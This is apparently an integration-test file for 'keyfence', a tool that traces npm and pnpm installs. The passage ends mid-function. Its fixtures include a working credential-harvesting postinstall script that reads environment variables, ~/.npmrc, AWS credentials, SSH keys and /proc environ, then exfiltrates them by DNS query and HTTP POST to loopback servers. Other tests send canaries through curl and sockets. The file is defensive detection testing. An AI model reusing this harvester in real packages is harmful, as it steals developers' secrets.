//! `run --trace` with real npm: two local package tarballs built in the test, installed from
//! disk. The "evil" one's postinstall reads its environment, ~/.npmrc, ~/.aws/credentials and
//! its parent's /proc/PID/environ, resolves a name made of the key it was given through a DNS
//! server the test runs on loopback, and POSTs its loot to an HTTP server the test runs on
//! loopback; the benign one only writes a file. The trace must name the evil package and what
//! it did, flag the canary in the POST body and in the DNS name, and say nothing of the benign
//! one beyond its exec, and the servers must receive canaries only; the same under the real
//! pnpm, and under the install sandbox (each attempt blocked, and reported so). Further tests
//! put a canary on a command line, in a file, in a Node TCP stream and into curl through a pipe.

use crate::common::*;
use std::path::Path;
use std::process::Command;
use std::sync::{Arc, Mutex};

const EVIL: &str = r#"
const fs = require("fs"), os = require("os"), http = require("http"), dns = require("dns");
let loot = JSON.stringify(process.env);
for (const f of [".npmrc", ".aws/credentials"]) {
  try { loot += fs.readFileSync(os.homedir() + "/" + f, "utf8"); } catch (e) {}
}
try { loot += fs.readFileSync("/proc/" + process.ppid + "/environ", "utf8"); } catch (e) {}
const key = process.env.ANTHROPIC_API_KEY || "none";
const name = key.match(/.{1,60}/g).join(".") + ".exfil.example";
const r = new dns.Resolver({ timeout: 500, tries: 1 });
r.setServers(["DNS_HOST"]);
r.resolve4(name, () => {
  const req = http.request({ host: "127.0.0.1", port: HTTP_PORT, method: "POST", path: "/" },
    res => res.resume());
  req.on("error", () => {});
  req.end(loot);
});
"#;

/// The harvester's far ends on loopback, keeping what they receive: a DNS server on port 53 of
/// its own loopback address (tests in parallel do not collide), answering every query NXDOMAIN
/// at once, and an HTTP server answering 200. Port 53 needs root: without it the DNS server is
/// not there, and what it would have received is not checked (the trace still sees the query).
struct Loot {
    dns_host: &'static str,
    dns: Option<Arc<Mutex<Vec<Vec<u8>>>>>,
    http_port: u16,
    http: Arc<Mutex<Vec<u8>>>,
}

impl Loot {
    fn start(dns_host: &'static str) -> Loot {
        use std::io::{Read, Write};
        let dns = std::net::UdpSocket::bind((dns_host, 53)).ok().map(|sock| {
            let got = Arc::new(Mutex::new(Vec::new()));
            let keep = got.clone();
            std::thread::spawn(move || {
                let mut buf = [0u8; 1500];
                while let Ok((n, from)) = sock.recv_from(&mut buf) {
                    keep.lock().unwrap().push(buf[..n].to_vec());
                    if n >= 4 {
                        // The query back as a response: QR set, RCODE 3 (no such name).
                        let mut answer = buf[..n].to_vec();
                        answer[2] |= 0x80;
                        answer[3] = (answer[3] & 0xf0) | 3;
                        let _ = sock.send_to(&answer, from);
                    }
                }
            });
            got
        });
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let http_port = listener.local_addr().unwrap().port();
        let http = Arc::new(Mutex::new(Vec::new()));
        let keep = http.clone();
        std::thread::spawn(move || {
            for c in listener.incoming() {
                let Ok(mut c) = c else { continue };
                let _ = c.set_read_timeout(Some(std::time::Duration::from_millis(300)));
                let mut buf = [0u8; 65536];
                while let Ok(n) = c.read(&mut buf) {
                    if n == 0 {
                        break;
                    }
                    keep.lock().unwrap().extend_from_slice(&buf[..n]);
                }
                let _ = c.write_all(b"HTTP/1.0 200 OK\r\nContent-Length: 2\r\n\r\nok");
            }
        });
        Loot {
            dns_host,
            dns,
            http_port,
            http,
        }
    }

    fn script(&self) -> String {
        EVIL.replace("DNS_HOST", self.dns_host)
            .replace("HTTP_PORT", &self.http_port.to_string())
    }

    /// The servers received the canary given for ANTHROPIC_API_KEY (in the POST body, and
    /// across the labels of the DNS query), and no real value.
    fn assert_only_canaries(&self, real: &[String]) {
        let body = String::from_utf8_lossy(&self.http.lock().unwrap()).into_owned();
        assert!(body.contains("sk-ant-api03-"), "no canary in the POST");
        let mut received = vec![body];
        match &self.dns {
            Some(dns) => {
                let names: Vec<String> = dns
                    .lock()
                    .unwrap()
                    .iter()
                    .filter_map(|q| keyfence::trace::dns_query_name(q))
                    .map(|n| n.replace('.', ""))
                    .collect();
                assert!(
                    names.iter().any(|n| n.starts_with("sk-ant-api03-")),
                    "no canary in the DNS queries"
                );
                received.extend(names);
            }
            None => eprintln!(
                "cannot bind {}:53 (not root): the DNS server's side is not checked",
                self.dns_host
            ),
        }
        for value in real {
            assert!(
                !received.iter().any(|r| r.contains(value.as_str())),
                "a real value reached a loopback server"
            );
        }
    }
}

fn package(dir: &Path, name: &str, postinstall: &str, script: &str) -> std::path::PathBuf {
    let src = dir.join(name);
    std::fs::create_dir_all(&src).unwrap();
    std::fs::write(
        src.join("package.json"),
        format!(
            r#"{{"name": "{name}", "version": "1.0.0", "scripts": {{"postinstall": "{postinstall}"}}}}"#
        ),
    )
    .unwrap();
    std::fs::write(src.join("install.js"), script).unwrap();
    npm_pack(&src, dir);
    dir.join(format!("{name}-1.0.0.tgz"))
}

#[test]
fn trace_names_the_package_that_harvests_and_alerts_on_the_canary() {
    if Command::new("npm").arg("--version").output().is_err() {
        panic!("npm is needed for this test (.ci/run installs it)");
    }
    let mut fx = Fixture::new();
    let key = fx.key("anthropic");
    // The user's ~/.npmrc holds a registered canary, the environment a real key that
    // `--canary` swaps for another: the harvester takes bait only.
    let npm_canary = fx.new_canary("npm", &["--label".as_ref(), "~/.npmrc".as_ref()]);
    fx.home_file(
        ".npmrc",
        &format!("//registry.npmjs.org/:_authToken={npm_canary}\n"),
    );
    let loot = Loot::start("127.0.0.1");
    let pkgs = fx.dir.path().join("pkgs");
    let evil = package(&pkgs, "evil-helper", "node install.js", &loot.script());
    let benign = package(
        &pkgs,
        "benign-helper",
        "node install.js",
        "require('fs').writeFileSync('built.txt', 'ok');",
    );
    fx.project_file("package.json", r#"{"name": "app", "version": "1.0.0"}"#);
    let trace = fx.dir.path().join("trace.jsonl");
    let trace_arg = format!("--trace={}", trace.display());
    let cache = pkgs.join("npm-cache");
    let r = npm_install_under(
        &fx,
        // The default profile: this test watches the scripts, not the install sandbox.
        &["--profile", "default", "--canary", &trace_arg],
        &[&evil, &benign],
        &key,
        &cache,
    );
    assert_eq!(r.code, 0, "{}\n{}", r.stdout, r.stderr);
    let (text, events) = read_trace(&trace);
    let of = |group: &str, kind: &str| -> Vec<&serde_json::Value> {
        events
            .iter()
            .filter(|e| e["event"] == kind && e["group"] == group)
            .collect()
    };
    // The first event is the command itself, not keyfence's helper.
    assert_eq!(events[0]["event"], "exec");
    assert_eq!(events[0]["group"], "npm", "{:?}", events[0]);
    assert!(
        !events[0].to_string().contains("__guard-exec"),
        "{:?}",
        events[0]
    );
    let evil_group = "evil-helper@1.0.0 postinstall";
    let opened: Vec<String> = of(evil_group, "open")
        .iter()
        .map(|e| e["path"].as_str().unwrap().to_string())
        .collect();
    assert!(opened.iter().any(|p| p.ends_with("/.npmrc")), "{opened:?}");
    assert!(opened.iter().any(|p| p.ends_with("/environ")), "{opened:?}");
    assert!(
        of(evil_group, "dns")
            .iter()
            .any(|e| e["name"].as_str().unwrap().contains("<keyfence:")),
        "{events:?}"
    );
    assert_harvest_attributed(&events, loot.http_port);
    loot.assert_only_canaries(&fx.planted);
    // The summary on stderr names the package; the alert is there.
    assert!(
        r.stderr.contains("ALERT: evil-helper@1.0.0 postinstall"),
        "{}",
        r.stderr
    );
    assert!(r.stderr.contains("read ~/.npmrc"), "{}", r.stderr);
    let ours: String = r
        .stderr
        .lines()
        .filter(|l| l.starts_with("keyfence: trace:"))
        .collect();
    assert!(!ours.contains("benign-helper"), "{ours}");
    // Neither the real key nor any planted value is in the trace file.
    for planted in &fx.planted {
        assert!(
            !text.contains(planted.as_str()),
            "a planted value is in the trace"
        );
    }
}

/// `--trace` without a file: the summary alone, under the top-level command's name (not
/// keyfence's own helper).
/// `keyfence run OPTIONS -- npm install --offline ... TARBALLS` in the project, with `key` as
/// ANTHROPIC_API_KEY and `cache` as npm's cache.
fn npm_install_under(
    fx: &Fixture,
    options: &[&str],
    tarballs: &[&Path],
    key: &str,
    cache: &Path,
) -> Run {
    let mut args = vec!["run"];
    args.extend(options);
    args.extend([
        "--",
        "npm",
        "install",
        "--offline",
        "--no-audit",
        "--no-fund",
        "--foreground-scripts",
    ]);
    args.extend(tarballs.iter().map(|t| t.to_str().unwrap()));
    fx.run(
        &args,
        &[
            ("ANTHROPIC_API_KEY", key),
            ("npm_config_cache", cache.to_str().unwrap()),
            // No look at the registry for a newer npm: the tests stay on loopback.
            ("npm_config_update_notifier", "false"),
        ],
    )
}

/// A trace file's text and its events (one JSON object per line).
fn read_trace(path: &Path) -> (String, Vec<serde_json::Value>) {
    let text = std::fs::read_to_string(path).unwrap();
    let events = text
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    (text, events)
}

/// What a traced install with both packages must show, whichever package manager ran it: the
/// harvester's read of ~/.npmrc and its send of the canary credited to its postinstall script,
/// and nothing but its start credited to the benign package's.
fn assert_harvest_attributed(events: &[serde_json::Value], http_port: u16) {
    assert_stayed_on_loopback(events);
    let of = |group: &str, kind: &str| -> Vec<&serde_json::Value> {
        events
            .iter()
            .filter(|e| e["event"] == kind && e["group"] == group)
            .collect()
    };
    let evil_group = "evil-helper@1.0.0 postinstall";
    assert!(
        of(evil_group, "open")
            .iter()
            .any(|e| e["path"].as_str().is_some_and(|p| p.ends_with("/.npmrc"))),
        "{events:?}"
    );
    // In the POST body, and across the labels of the DNS query.
    let sent = of(evil_group, "secret-sent");
    let canary_to = |to: &dyn Fn(&str) -> bool| {
        sent.iter().any(|e| {
            e["what"] == "the canary for ANTHROPIC_API_KEY"
                && to(e["destination"].as_str().unwrap_or(""))
        })
    };
    let http = format!("127.0.0.1:{http_port}");
    assert!(canary_to(&|d| d == http), "{events:?}");
    assert!(canary_to(&|d| d.contains("in the DNS query")), "{events:?}");
    let benign_group = "benign-helper@1.0.0 postinstall";
    assert!(!of(benign_group, "exec").is_empty(), "{events:?}");
    for kind in ["open", "dns", "connect", "secret-sent", "secret-written"] {
        assert!(of(benign_group, kind).is_empty(), "{kind}: {events:?}");
    }
}

/// Every connect in the trace went to loopback or a Unix socket: the tests must not reach off
/// the machine (npm, say, asking the registry for a newer npm).
fn assert_stayed_on_loopback(events: &[serde_json::Value]) {
    for e in events.iter().filter(|e| e["event"] == "connect") {
        let a = e["address"].as_str().unwrap_or("");
        assert!(
            a.starts_with("127.") || a.starts_with("[::1]") || a.starts_with("unix:"),
            "{e}"
        );
    }
}

#[test]
fn trace_without_a_file_prints_the_summary() {
    let mut fx = Fixture::new();
    let token = fx.key("npm");
    fx.home_file(
        ".npmrc",
        &format!("//registry.npmjs.org/:_authToken={token}\n"),
    );
    let r = fx.run(
        &[
            "run",
            "--trace",
            "--",
            "sh",
            "-c",
            "cat ~/.npmrc > /dev/null; echo ok",
        ],
        &[],
    );
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(r.stdout.contains("ok"));
    assert!(
        r.stderr.contains("keyfence: trace: sh: read ~/.npmrc"),
        "{}",
        r.stderr
    );
    assert!(!r.stderr.contains("__guard-exec"), "{}", r.stderr);
}

/// A loopback HTTP-ish server that swallows whatever comes and answers 200, until the test
/// ends: the far end of the sends below.
fn sink() -> u16 {
    use std::io::{Read, Write};
    let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for c in l.incoming() {
            let Ok(mut c) = c else { continue };
            std::thread::spawn(move || {
                let _ = c.set_read_timeout(Some(std::time::Duration::from_millis(300)));
                let mut buf = [0u8; 65536];
                while matches!(c.read(&mut buf), Ok(n) if n > 0) {}
                let _ = c.write_all(b"HTTP/1.0 200 OK\r\nContent-Length: 2\r\n\r\nok");
            });
        }
    });
    port
}

/// `run --canary --trace=FILE -- sh -c SCRIPT` with a fresh ANTHROPIC_API_KEY (dropped, so the
/// script gets a canary in its place); the run, the events, and the canary value (which the
/// script leaves in `canary.txt`) for the checks that nothing printed it.
fn traced_sh(script: &str) -> (Fixture, Run, Vec<serde_json::Value>, String) {
    let mut fx = Fixture::new();
    let key = fx.key("anthropic");
    let trace = fx.dir.path().join("trace.jsonl");
    let trace_arg = format!("--trace={}", trace.display());
    let script = format!(
        "cd {}; printf %s \"$ANTHROPIC_API_KEY\" > {}/canary.txt; {script}",
        fx.project.display(),
        fx.dir.path().display()
    );
    let r = fx.run(
        &["run", "--canary", &trace_arg, "--", "sh", "-c", &script],
        &[("ANTHROPIC_API_KEY", &key)],
    );
    assert_eq!(r.code, 0, "{}\n{}", r.stdout, r.stderr);
    let (text, events) = read_trace(&trace);
    let canary = std::fs::read_to_string(fx.dir.path().join("canary.txt")).unwrap();
    assert!(canary.len() > 20 && canary != key, "no canary given");
    // Neither the real key nor the canary is printed or in the trace file.
    r.assert_no_secret(&[key.clone(), canary.clone()]);
    assert!(!text.contains(&key) && !text.contains(&canary), "{text}");
    (fx, r, events, canary)
}

fn secret_events<'a>(events: &'a [serde_json::Value], kind: &str) -> Vec<&'a serde_json::Value> {
    events
        .iter()
        .filter(|e| e["event"] == kind && e["what"] == "the canary for ANTHROPIC_API_KEY")
        .collect()
}

/// A canary handed to a program as an argument: world-readable in /proc/PID/cmdline, and
/// recorded without the value (the exec's argv is masked).
#[test]
fn trace_reports_a_secret_on_a_command_line() {
    let (_fx, r, events, _) = traced_sh("/bin/true --token=\"$ANTHROPIC_API_KEY\"");
    let found = secret_events(&events, "secret-in-argv");
    assert!(found.iter().any(|e| e["program"] == "true"), "{events:?}");
    assert!(
        events.iter().any(|e| e["event"] == "exec"
            && e["argv"][1] == "--token=<keyfence:ANTHROPIC_API_KEY>"),
        "{events:?}"
    );
    assert!(
        r.stderr
            .contains("passed the canary for ANTHROPIC_API_KEY on the command line of true"),
        "{}",
        r.stderr
    );
    assert!(r.stderr.contains("ALERT: sh"), "{}", r.stderr);
}

/// A canary written to a file that is still there when the command ends, attributed to the
/// process that opened it: through relative paths, also after the shell changed directory
/// (resolved against the process's working directory while its open waits), and from Python.
#[test]
fn trace_reports_a_secret_written_to_a_file() {
    let (fx, r, events, _) = traced_sh(
        "echo harmless > clean.txt; mkdir sub; cd sub; echo \"$ANTHROPIC_API_KEY\" > leak.txt; \
         python3 -c 'import os; open(\"py-leak.txt\", \"w\").write(os.environ[\"ANTHROPIC_API_KEY\"])'",
    );
    let found = secret_events(&events, "secret-written");
    for name in ["leak.txt", "py-leak.txt"] {
        let path = fx.project.join("sub").join(name).display().to_string();
        assert!(
            found.iter().any(|e| e["path"] == path),
            "{name}: {events:?}"
        );
    }
    assert!(
        !events
            .iter()
            .any(|e| e["path"].as_str().is_some_and(|p| p.ends_with("clean.txt"))),
        "{events:?}"
    );
    assert!(
        r.stderr
            .contains("wrote the canary for ANTHROPIC_API_KEY to"),
        "{}",
        r.stderr
    );
}

/// Opens reach the trace through a seccomp listener, not a ptrace stop: each must still name
/// the file (a path relative to the working directory or to a directory descriptor made
/// absolute) and the process that opened it, also when eight threads open at once.
#[test]
fn trace_resolves_opens_heard_through_the_listener() {
    let (fx, _r, events, _) = traced_sh(
        "mkdir -p \"$HOME/.aws\" && echo '[default]' > \"$HOME/.aws/credentials\"; \
         (cd \"$HOME\" && cat .aws/credentials > /dev/null); \
         python3 -c '
import os, threading
d = os.open(os.path.expanduser(\"~/.aws\"), os.O_RDONLY)
os.close(os.open(\"credentials\", os.O_RDONLY, dir_fd=d))
def read(): open(os.path.expanduser(\"~/.npmrc\"), \"a\").close()
ts = [threading.Thread(target=read) for _ in range(8)]
[t.start() for t in ts]; [t.join() for t in ts]
print(os.getpid(), file=open(\"py.pid\", \"w\"))'",
    );
    let creds = fx.home.join(".aws/credentials").display().to_string();
    let npmrc = fx.home.join(".npmrc").display().to_string();
    let opens = |path: &str| -> Vec<&serde_json::Value> {
        events
            .iter()
            .filter(|e| e["event"] == "open" && e["path"] == path)
            .collect()
    };
    let execs = |program: &str| -> Vec<i64> {
        events
            .iter()
            .filter(|e| {
                e["event"] == "exec" && e["program"].as_str().is_some_and(|p| p.ends_with(program))
            })
            .filter_map(|e| e["pid"].as_i64())
            .collect()
    };
    let py: i64 = std::fs::read_to_string(fx.project.join("py.pid"))
        .unwrap()
        .trim()
        .parse()
        .unwrap();
    // Written by the shell (pid of the redirection's shell), read by cat (relative to $HOME),
    // read by Python (relative to a directory descriptor).
    let by: Vec<i64> = opens(&creds)
        .iter()
        .filter_map(|e| e["pid"].as_i64())
        .collect();
    assert!(
        execs("cat").iter().any(|p| by.contains(p)),
        "cat: {by:?} {events:?}"
    );
    assert!(by.contains(&py), "python: {by:?} {events:?}");
    // Each thread's open is heard (the threads' ids, which the trace reports as given).
    let threads = opens(&npmrc);
    assert!(threads.len() >= 8, "{threads:?}");
}

/// Node sends TCP data with write/writev, not sendto, and Python's `socket.sendfile` sends a
/// file's bytes with sendfile: the canary in either stream is seen.
#[test]
fn trace_reports_a_secret_written_to_a_tcp_socket() {
    let (node_port, py_port) = (sink(), sink());
    let (_fx, _r, events, _) = traced_sh(&format!(
        "node -e 'const s = require(\"net\").connect({node_port}, \"127.0.0.1\", () => \
         s.end(\"POST / HTTP/1.0\\r\\n\\r\\n\" + process.env.ANTHROPIC_API_KEY)); s.on(\"data\", () => {{}})'; \
         python3 -c 'import socket; s = socket.create_connection((\"127.0.0.1\", {py_port})); \
         s.sendfile(open(\"../canary.txt\", \"rb\"))'"
    ));
    let found = secret_events(&events, "secret-sent");
    for port in [node_port, py_port] {
        assert!(
            found
                .iter()
                .any(|e| e["destination"] == format!("127.0.0.1:{port}")),
            "{port}: {events:?}"
        );
    }
}

/// A canary piped into curl: seen as curl reads its standard input, whatever curl then does
/// with it (here: sends it in plaintext; over TLS it would be opaque on the socket).
#[test]
fn trace_reports_a_secret_piped_to_a_network_tool() {
    if Command::new("curl").arg("--version").output().is_err() {
        panic!("curl is needed for this test (.ci/run installs it)");
    }
    let port = sink();
    let (_fx, r, events, _) = traced_sh(&format!(
        "printf %s \"$ANTHROPIC_API_KEY\" | curl -s --data-binary @- http://127.0.0.1:{port}/ >/dev/null"
    ));
    let found = secret_events(&events, "secret-sent");
    assert!(
        found
            .iter()
            .any(|e| e["destination"] == "the standard input of curl"),
        "{events:?}"
    );
    assert!(
        r.stderr.contains("to the standard input of curl"),
        "{}",
        r.stderr
    );
}

/// The same harvesting package installed by the real pnpm (`target/test-tools`, pinned in
/// .ci/run): pnpm runs a dependency's build scripts only when `allowBuilds` names it, and
/// still gives each script `npm_package_name`/`npm_lifecycle_event`, so the report names the
/// package under pnpm too.
#[test]
fn trace_names_the_package_that_harvests_under_pnpm() {
    let pnpm =
        Path::new(env!("CARGO_MANIFEST_DIR")).join("target/test-tools/node_modules/.bin/pnpm");
    assert!(
        pnpm.exists(),
        "pnpm not found at {}: run `npm install --prefix target/test-tools pnpm@12.21.0` (.ci/run does)",
        pnpm.display()
    );
    let mut fx = Fixture::new();
    let key = fx.key("anthropic");
    let npm_canary = fx.new_canary("npm", &["--label".as_ref(), "~/.npmrc".as_ref()]);
    fx.home_file(
        ".npmrc",
        &format!("//registry.npmjs.org/:_authToken={npm_canary}\n"),
    );
    let pkgs = fx.dir.path().join("pkgs");
    let loot = Loot::start("127.0.0.2");
    package(&pkgs, "evil-helper", "node install.js", &loot.script());
    package(
        &pkgs,
        "benign-helper",
        "node install.js",
        "require('fs').writeFileSync('built.txt', 'ok');",
    );
    fx.project_file(
        "package.json",
        r#"{"name": "app", "version": "1.0.0", "dependencies": {
            "evil-helper": "file:../pkgs/evil-helper-1.0.0.tgz",
            "benign-helper": "file:../pkgs/benign-helper-1.0.0.tgz"}}"#,
    );
    // pnpm's key for a tarball dependency is its name and specifier.
    fx.project_file(
        "pnpm-workspace.yaml",
        "allowBuilds:\n  evil-helper@file:../pkgs/evil-helper-1.0.0.tgz: true\n  \
         benign-helper@file:../pkgs/benign-helper-1.0.0.tgz: true\n",
    );
    let trace = fx.dir.path().join("trace.jsonl");
    let trace_arg = format!("--trace={}", trace.display());
    let store = fx.dir.path().join("pnpm-store");
    let r = fx.run(
        &[
            "run",
            "--profile",
            "default",
            "--canary",
            &trace_arg,
            "--",
            pnpm.to_str().unwrap(),
            "install",
            "--store-dir",
            store.to_str().unwrap(),
            "--offline",
        ],
        &[
            ("ANTHROPIC_API_KEY", &key),
            // No look at the registry for a newer pnpm: this test stays on loopback.
            ("npm_config_update_notifier", "false"),
        ],
    );
    assert_eq!(r.code, 0, "{}\n{}", r.stdout, r.stderr);
    let (text, events) = read_trace(&trace);
    assert_harvest_attributed(&events, loot.http_port);
    loot.assert_only_canaries(&fx.planted);
    assert!(
        r.stderr.contains("ALERT: evil-helper@1.0.0 postinstall"),
        "{}",
        r.stderr
    );
    r.assert_no_secret(&fx.planted);
    for planted in &fx.planted {
        assert!(
            !text.contains(planted.as_str()),
            "a planted value is in the trace"
        );
    }
}

/// The harvesting postinstall again, sending its loot by HTTP POST to a server the test runs on
/// loopback, and writing what each attempt gave to `probe.txt` in the project.
const EVIL_HTTP: &str = r#"
const fs = require("fs"), os = require("os"), http = require("http");
const got = [];
let loot = JSON.stringify(process.env);
for (const f of [".npmrc", ".aws/credentials", ".ssh/id_ed25519"]) {
  try { loot += fs.readFileSync(os.homedir() + "/" + f, "utf8"); got.push(f + "=read"); }
  catch (e) { got.push(f + "=" + e.code); }
}
const done = () => fs.writeFileSync(process.env.INIT_CWD + "/probe.txt", got.join("\n") + "\n");
const req = http.request({ host: "127.0.0.1", port: PORT, method: "POST", path: "/" },
  res => { got.push("post=" + res.statusCode); done(); });
req.on("error", e => { got.push("post=" + e.code); done(); });
req.end(loot);
"#;

/// The same harvester under the built-in `install` profile (the sandbox) with the network
/// limited to HTTPS: its reads of ~/.npmrc and ~/.aws/credentials and its connection to the
/// loopback server fail, the trace reports each as blocked and credits it to the package, and
/// the server receives nothing.
#[test]
fn trace_reports_what_the_install_sandbox_blocked() {
    use std::io::Read;
    use std::sync::{Arc, Mutex};
    let mut fx = Fixture::outside_tmp();
    let key = fx.key("anthropic");
    let npm_token = fx.key("npm");
    let aws = fx.key("aws-secret");
    fx.home_file(
        ".npmrc",
        &format!("//registry.npmjs.org/:_authToken={npm_token}\n"),
    );
    fx.home_file(
        ".aws/credentials",
        &format!("[default]\naws_secret_access_key = {aws}\n"),
    );
    let received = Arc::new(Mutex::new(Vec::new()));
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let got = received.clone();
    std::thread::spawn(move || {
        for c in listener.incoming() {
            let Ok(mut c) = c else { continue };
            let _ = c.set_read_timeout(Some(std::time::Duration::from_millis(300)));
            let mut buf = Vec::new();
            let _ = c.read_to_end(&mut buf);
            got.lock().unwrap().push(buf);
        }
    });
    let pkgs = fx.dir.path().join("pkgs");
    let evil = package(
        &pkgs,
        "evil-helper",
        "node install.js",
        &EVIL_HTTP.replace("PORT", &port.to_string()),
    );
    fx.project_file("package.json", r#"{"name": "app", "version": "1.0.0"}"#);
    // In the home, where the sandbox lets the tree write nothing (keyfence opens the file
    // before it restricts itself), so the harvester cannot rewrite the record of what it did.
    let trace = fx.home.join("trace.jsonl");
    let trace_arg = format!("--trace={}", trace.display());
    // The sandbox can only let the tree write beneath directories that exist when it starts.
    let cache = fx.home.join(".npm");
    std::fs::create_dir_all(&cache).unwrap();
    let r = npm_install_under(
        &fx,
        &[
            "--profile",
            "install",
            "--net",
            "tcp:443",
            "--canary",
            &trace_arg,
        ],
        &[&evil],
        &key,
        &cache,
    );
    assert_eq!(r.code, 0, "{}\n{}", r.stdout, r.stderr);
    // What the script itself saw: every attempt failed.
    let probe = std::fs::read_to_string(fx.project.join("probe.txt")).unwrap();
    // (There is no ~/.ssh: that read fails as it would anywhere.)
    for line in [
        ".npmrc=EACCES",
        ".aws/credentials=EACCES",
        ".ssh/id_ed25519=ENOENT",
        "post=EACCES",
    ] {
        assert!(probe.lines().any(|l| l == line), "{line}: {probe}");
    }
    assert!(received.lock().unwrap().is_empty(), "the server got data");
    // What the trace says: the same, each blocked, credited to the package.
    let (text, events) = read_trace(&trace);
    assert_stayed_on_loopback(&events);
    let evil_group = "evil-helper@1.0.0 postinstall";
    let blocked = |kind: &str, what: &str, field: &str| {
        events.iter().any(|e| {
            e["event"] == kind
                && e["group"] == evil_group
                && e["blocked"] == true
                && e[field].as_str().is_some_and(|v| v.ends_with(what))
        })
    };
    assert!(blocked("open", "/.npmrc", "path"), "{events:?}");
    assert!(blocked("open", "/.aws/credentials", "path"), "{events:?}");
    // Seen, but not blocked: the file is not there.
    assert!(
        events.iter().any(|e| e["event"] == "open"
            && e["path"]
                .as_str()
                .is_some_and(|p| p.ends_with("/.ssh/id_ed25519"))
            && e["blocked"].is_null()),
        "{events:?}"
    );
    assert!(
        blocked("connect", &format!("127.0.0.1:{port}"), "address"),
        "{events:?}"
    );
    // An allowed connect or read carries no `blocked` at all.
    assert!(
        events
            .iter()
            .all(|e| e["blocked"].is_null() || e["blocked"] == true),
        "{events:?}"
    );
    assert!(
        r.stderr.contains("tried to read ~/.npmrc (blocked)")
            && r.stderr
                .contains(&format!("tried to connect to 127.0.0.1:{port} (blocked)")),
        "{}",
        r.stderr
    );
    for planted in &fx.planted {
        assert!(
            !text.contains(planted.as_str()),
            "a planted value is in the trace"
        );
    }
}

/// #14: a value in a path reached the trace file and the summary in clear (`cd "d$KEY"`):
/// every string field of every event is masked as argv is. The tree gets a canary for
/// GITHUB_TOKEN (short enough for a Unix socket path) and puts it in a directory name (`cwd`), a
/// program's name (`program`, `argv`), a `.env` file it writes (`open.path`,
/// `secret-written.path`), a Unix socket path it connects and sends to (`connect.address`,
/// `secret-sent.destination`), a DNS name (`dns.name`) and the npm package name a process
/// carries (`group`, which heads the summary's lines); and in the notices on stderr: the path of
/// a setuid program, and a process that names itself after 15 bytes of the value (all a
/// process name holds) and then calls ptrace.
#[test]
fn trace_masks_a_value_in_every_field() {
    let mut fx = Fixture::new();
    let key = fx.key("github");
    let trace = fx.dir.path().join("trace.jsonl");
    let trace_arg = format!("--trace={}", trace.display());
    let script = format!(
        r#"v="$GITHUB_TOKEN"; printf %s "$v" > {out}/canary.txt
d="$PWD/d$v"; mkdir "$d"; cd "$d"
cp /bin/true "./$v"; chmod u+s "./$v"; "./$v"
printf %s "$v" > .env
npm_package_name="$v" npm_lifecycle_event=postinstall cat "$HOME/.npmrc" 2>/dev/null
python3 -c '
import os, socket
v = os.environ["GITHUB_TOKEN"]
srv = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); srv.bind("s" + v)
socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).connect("s" + v)
socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(v.encode(), "s" + v)
q = bytes.fromhex("123401000001000000000000") + bytes([len(v)]) + v.encode() + b"\x07example\x00\x00\x01\x00\x01"
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(q, ("127.0.0.1", 53))
import ctypes
libc = ctypes.CDLL(None)
libc.prctl(15, v[:15].encode())
libc.ptrace(0, 0, 0, 0)
'"#,
        out = fx.dir.path().display()
    );
    let r = fx.run(
        &["run", "--canary", &trace_arg, "--", "sh", "-c", &script],
        &[("GITHUB_TOKEN", &key)],
    );
    assert_eq!(r.code, 0, "{}\n{}", r.stdout, r.stderr);
    let canary = std::fs::read_to_string(fx.dir.path().join("canary.txt")).unwrap();
    assert!(
        canary.starts_with("ghp_") && canary != key,
        "no canary given"
    );
    let (text, events) = read_trace(&trace);
    r.assert_no_secret(&[key.clone(), canary.clone()]);
    assert!(
        !text.contains(&canary) && !text.contains(&key),
        "a value is in the trace file"
    );
    let masked = "<keyfence:GITHUB_TOKEN>";
    let has = |kind: &str, field: &str, want: &dyn Fn(&str) -> bool| {
        events
            .iter()
            .any(|e| e["event"] == kind && e[field].as_str().is_some_and(want))
    };
    let dir = format!("/d{masked}");
    assert!(has("exec", "cwd", &|v| v.ends_with(&dir)), "{events:?}");
    assert!(
        has("exec", "program", &|v| v
            .ends_with(&format!("{dir}/{masked}"))),
        "{events:?}"
    );
    assert!(
        has("open", "path", &|v| v.ends_with(&format!("{dir}/.env"))),
        "{events:?}"
    );
    assert!(
        has("secret-written", "path", &|v| v
            .ends_with(&format!("{dir}/.env"))),
        "{events:?}"
    );
    assert!(
        has("connect", "address", &|v| v == format!("unix:s{masked}")),
        "{events:?}"
    );
    assert!(
        has("secret-sent", "destination", &|v| v
            == format!("unix:s{masked}")),
        "{events:?}"
    );
    assert!(
        has("secret-in-argv", "program", &|v| v == masked),
        "{events:?}"
    );
    assert!(
        has("dns", "name", &|v| v.starts_with("<keyfence:GITHUB_TOKEN")),
        "{events:?}"
    );
    let group = format!("{masked} postinstall");
    assert!(
        has("open", "group", &|v| v == group) && has("exec", "group", &|v| v == group),
        "{events:?}"
    );
    // The summary: the group that heads a paragraph, and the paths in its lines.
    assert!(
        r.stderr
            .contains(&format!("keyfence: trace: {group}: read ~/.npmrc")),
        "{}",
        r.stderr
    );
    assert!(
        r.stderr
            .contains(&format!("keyfence: guard: ./{masked} is setuid/setgid")),
        "{}",
        r.stderr
    );
    assert!(
        r.stderr
            .contains(&format!("keyfence: guard: {masked} (pid ")),
        "{}",
        r.stderr
    );
    assert!(!r.stderr.contains(&canary[..15]), "{}", r.stderr);
    assert!(
        r.stderr.contains(&format!(
            "wrote the canary for GITHUB_TOKEN to {}",
            fx.project.join(format!("d{masked}/.env")).display()
        )),
        "{}",
        r.stderr
    );
}

/// Whether this runs as root with setpriv, to give files to another user and run as one.
/// Without: fails when `CI` is set, and otherwise says the test is skipped.
fn needs_root() -> bool {
    if nix_is_root() && Path::new(AS_UNPRIVILEGED[0]).exists() {
        return true;
    }
    skip("this test needs root and setpriv (to give a file to another user, and run as one)");
    false
}

fn mode(path: &Path) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    std::fs::symlink_metadata(path)
        .unwrap()
